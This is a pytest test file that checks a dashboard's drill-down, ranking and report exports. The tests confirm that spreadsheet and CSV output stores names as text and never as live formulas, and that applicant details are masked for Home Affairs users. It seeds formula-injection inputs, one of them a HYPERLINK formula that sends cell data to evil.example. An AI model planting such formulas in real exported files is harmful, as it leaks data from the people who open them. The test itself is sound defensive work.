"""Dashboard exports run no formulas (the drill-down lists, the ranking, the periodic report): text is a
string cell or an apostrophe-prefixed CSV field, dates are date cells; a Home Affairs officer gets the
applicants behind a number masked (initials, last four ID digits), an agency head their own in full."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from dossiers import services
from dossiers.policies import initials
from dossiers.tests.conftest import APPLICANT, at
from parindex.metrics import snapshots_refresh

from .test_metrics_and_dashboard import MARCH, _month

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"Xem")', "=1+2", "@SUM(A1)"]
QUERY = {"chi-so": "received", "from": "2026-03", "to": "2026-03"}


def _hostile(world):
    return {name: services.dossier_create_at_desk(actor=world.reception, version=world.birth, agency=world.pleiku,
                                                  at=at(2026, 3, 3, 9 + i), **{**APPLICANT, "applicant_name": name})
            for i, name in enumerate(HOSTILE)}


def _xlsx_rows(response):
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))


def test_the_drill_down_exports_keep_names_as_text_and_dates_as_dates(world, client):
    made = _hostile(world)
    client.force_login(world.approver)  # the head of Pleiku: their own applicants, in full
    query = {**QUERY, "co-quan": world.pleiku.pk}
    rows = {r[0].value: r for r in _xlsx_rows(client.get("/chi-so/ho-so/", {**query, "xuat": "xlsx"}))}
    for name, dossier in made.items():
        line = rows[dossier.code]
        assert line[3].value == name and line[3].data_type == "s"
        assert line[4].value == "********0123"
        assert line[6].is_date and line[6].value == dt.datetime(2026, 3, 3, 9 + HOSTILE.index(name))
        assert line[7].is_date and line[7].number_format.startswith("dd/mm/yyyy")
    text = client.get("/chi-so/ho-so/", {**query, "xuat": "csv"}).content.decode("utf-8-sig")
    fields = {r[0]: r for r in csv.reader(io.StringIO(text))}
    for name, dossier in made.items():
        assert fields[dossier.code][3] == "'" + name
        assert fields[dossier.code][6] == f"03/03/2026 {9 + HOSTILE.index(name):02d}:00"


def test_home_affairs_see_the_dossiers_behind_a_number_masked(world, client, demo):
    made = _hostile(world)
    plain = services.dossier_create_at_desk(actor=world.reception, version=world.birth, agency=world.pleiku,
                                            at=at(2026, 3, 4, 9), **APPLICANT)
    client.force_login(demo.user("noivu@demo.gov.vn"))
    page = client.get("/chi-so/ho-so/", {**QUERY, "co-quan": world.pleiku.pk}).content.decode()
    assert plain.code in page and "N. V. A." in page and "Nguyễn Văn An" not in page and "064090000123" not in page
    rows = {r[0].value: r for r in _xlsx_rows(client.get("/chi-so/ho-so/", {**QUERY, "xuat": "xlsx"}))}
    assert rows[plain.code][3].value == "N. V. A." and rows[plain.code][4].value == "********0123"
    for name, dossier in made.items():
        masked = rows[dossier.code][3]
        assert masked.value == initials(name) and masked.data_type == "s"  # "=. ..." is still text
    text = client.get("/chi-so/ho-so/", {**QUERY, "xuat": "csv"}).content.decode("utf-8-sig")
    assert "Nguyễn Văn An" not in text and "N. V. A." in text


def test_the_ranking_and_the_periodic_report_keep_a_hostile_agency_name_as_text(world, client, demo):
    _month(world)
    world.pleiku.name = "=1+2"
    world.pleiku.save(update_fields=["name"])
    snapshots_refresh(first=MARCH, last=MARCH, now=at(2026, 4, 2))
    client.force_login(demo.user("noivu@demo.gov.vn"))
    report = load_workbook(io.BytesIO(client.get("/chi-so/bao-cao/", {
        "from": "2026-03", "to": "2026-03", "xuat": "xlsx"}).content)).active
    cells = [c for c in report["A"] if c.value == "=1+2"]
    assert cells and all(c.data_type == "s" for c in cells)
    assert report.cell(row=report.max_row, column=2).value == 5  # counts stay numbers
    ranking = load_workbook(io.BytesIO(client.get("/chi-so/", {"from": "2026-03", "to": "2026-03",
                                                               "xuat": "xlsx"}).content)).active
    cells = [c for c in ranking["B"] if c.value == "=1+2"]
    assert cells and all(c.data_type == "s" for c in cells)
    text = client.get("/chi-so/", {"from": "2026-03", "to": "2026-03", "xuat": "csv"}).content.decode("utf-8-sig")
    assert any(r[1] == "'=1+2" for r in csv.reader(io.StringIO(text)))
